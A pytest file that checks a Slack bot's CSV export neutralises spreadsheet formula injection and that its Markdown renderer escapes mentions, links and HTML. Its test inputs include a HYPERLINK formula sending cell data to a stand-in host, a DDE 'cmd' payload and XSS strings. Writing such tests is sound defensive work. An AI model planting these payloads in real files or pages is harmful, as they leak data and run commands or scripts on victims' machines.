"""Exported files read as data, never as code: CSV cells that no spreadsheet
evaluates, Markdown that shows what people wrote without following it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from bot.services.assessment import Assessment, SessionFigures
from bot.services.exports import EVALUATIONS, csv_text
from bot.slack.render import reports
from bot.slack.text import markdown

HOSTILE_CELLS = [
    '=HYPERLINK("https://e.vil?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    '=1+2";=1+2',
    "a,=1;b",
    'plain, with "quotes" and ; separators',
    "Écoute d'abord",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_no_csv_cell_starts_a_formula_and_every_text_survives():
    rows = [[1, "2026-12-01", cell, 4, cell, None, "", cell, ""] for cell in HOSTILE_CELLS]
    content = csv_text(EVALUATIONS, rows)
    assert content.startswith("\ufeff")  # UTF-8 with a BOM once encoded
    parsed = list(csv.reader(io.StringIO(content.removeprefix("\ufeff"))))
    assert parsed[0] == EVALUATIONS
    cells = [cell for row in parsed for cell in row]
    assert [c for c in cells if c.startswith(FORMULA)] == []
    for row, cell in zip(parsed[1:], HOSTILE_CELLS, strict=True):
        shown = row[2]
        assert shown == (f"'{cell}" if cell.startswith(FORMULA) else cell)
    assert '"\'=1+2"";=1+2"' in content  # OWASP's own example: quoted, quote doubled


def test_a_negative_or_odd_value_is_neutralised_too():
    content = csv_text(["n"], [[-1], ["@x"], [None]])
    assert content.removeprefix("\ufeff").splitlines() == ['"n"', '"\'-1"', '"\'@x"', '""']


@pytest.mark.parametrize(
    ("typed", "forbidden"),
    [
        ("<!channel> please", "<!channel"),
        ("see <https://e.vil|here>", "<https://"),
        ("[click](https://e.vil)", "](https"),
        ("<script>alert(1)</script>", "<script"),
        ("<img src=x onerror=alert(1)>", "<img"),
        ("**bold** _it_ `code`", "**bold**"),
        ("line one\n\n# two", "\n"),
        ("a | b", "a | b"),
    ],
)
def test_markdown_shows_what_people_wrote_without_interpreting_it(typed, forbidden):
    assert forbidden not in markdown(typed)


def test_a_line_start_cannot_make_a_title_a_list_or_a_quote():
    for typed in ("# title", "- item", "+ item", "1. item", "> quote"):
        assert markdown(typed)[0] in "\\&" or markdown(typed)[1] == "\\", typed


def test_a_bare_link_is_shown_as_code_not_followed():
    assert markdown("go to https://e.vil/x now") == "go to `https://e.vil/x` now"


def test_the_cycle_report_escapes_the_group_name_and_learnings():
    at = datetime(2026, 12, 1, 9, tzinfo=UTC)
    figures = [SessionFigures(1, at, at, 120, "U1", ["U1"], ["U1", "U2"], 4.0, 2)]
    found = Assessment(
        1,
        "<!channel> [x](https://e.vil)",
        "C1",
        "en",
        1,
        0,
        2.0,
        35,
        [("U1", 1)],
        0.5,
        {},
        figures,
        None,
        [("<@UEVIL> <script>x</script>", 2)],
    )
    text = reports.cycle_markdown(found).text
    for raw in ("<!channel", "](https", "<@UEVIL", "<script"):
        assert raw not in text
    assert "&lt;@UEVIL&gt;" in text and "(×2)" in text
